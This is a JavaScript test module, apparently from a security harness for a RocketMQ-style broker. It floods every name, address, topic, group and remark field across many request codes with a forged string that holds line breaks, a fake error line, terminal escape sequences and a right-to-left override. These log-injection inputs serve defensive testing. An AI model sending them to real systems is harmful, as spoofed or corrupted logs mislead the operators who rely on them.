const FORGED =
  'x\r\n10:31:02 error  the disk is full\u001b[2K\u001b[1A\u0085\u009b31m\u2028\u2029\u202e'

/** Whoever registers, joins or fails chooses text that ends up in the log. */
export default {
  name: 'forged-log',
  says: 'line ends, escapes and marks of direction in every name, address and remark that the log may show',
  async attack(field) {
    const heartbeat = JSON.stringify({
      clientID: FORGED,
      producerDataSet: [{ groupName: FORGED }],
      consumerDataSet: [
        {
          groupName: FORGED,
          consumeType: 'CONSUME_PASSIVELY',
          messageModel: 'CLUSTERING',
          consumeFromWhere: 'CONSUME_FROM_LAST_OFFSET',
          subscriptionDataSet: [
            {
              topic: FORGED,
              subString: FORGED,
              tagsSet: [FORGED],
              codeSet: [],
              expressionType: FORGED,
            },
          ],
        },
      ],
    })
    const names = [
      'brokerName',
      'clusterName',
      'brokerAddr',
      'haServerAddr',
      'brokerId',
      'topic',
      'group',
      'consumerGroup',
      'clientID',
      'clientId',
      'namespace',
      'key',
      'value',
      'topicName',
      'remark',
      'attributes',
    ]
    const fields = Object.fromEntries(
      names.map((name) => [name, name === 'brokerId' ? '0' : FORGED]),
    )
    const codes = [103, 104, 105, 34, 35, 17, 215, 200, 207, 100, 101, 205, 216, 224, 25, 46, 206]
    for (const port of [field.namesrvPort, field.brokerPort]) {
      for (const code of codes) {
        for (const body of [Buffer.from(heartbeat), Buffer.from(FORGED), Buffer.alloc(0)]) {
          for (const serialization of [0, 1]) {
            await field.call(port, { code, fields, body, serialization, remark: FORGED }, 2000)
          }
        }
      }
      for (const text of [FORGED, `{"${FORGED}`, `{"code":"${FORGED}"}`]) {
        const peer = await field.connect(port)
        await peer.write(field.rawFrame(Buffer.from(text)))
        peer.destroy()
      }
    }
  },
}
